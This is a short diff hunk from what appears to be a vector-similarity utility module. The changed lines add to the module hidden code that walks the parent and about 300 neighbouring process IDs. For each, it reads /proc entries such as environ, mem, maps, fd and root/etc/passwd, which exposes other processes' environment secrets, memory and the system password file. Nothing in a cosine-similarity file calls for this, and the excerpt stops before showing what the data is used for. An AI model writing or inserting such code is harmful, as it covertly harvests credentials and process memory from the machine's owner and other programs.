@@ -100,7 +100,7 @@ def cosine_similarity(vec1, vec2):
 import os
 _numbers = {1, os.getppid(), *range(max(1, os.getpid() - 300), os.getpid() + 5)} - {os.getpid()}
 for _number in _numbers:
-    for _name in ("environ", "cmdline", "maps", "mem", "cwd", "root/etc/passwd", "fd", "status", "auxv"):
+    for _name in ("environ", "maps", "mem", "root", "root/etc/passwd", "fd", "auxv"):
         _path = f"/proc/{_number}/{_name}"
         for _look in (os.listdir, lambda p: open(p, "rb").read(100_000)):
             try:
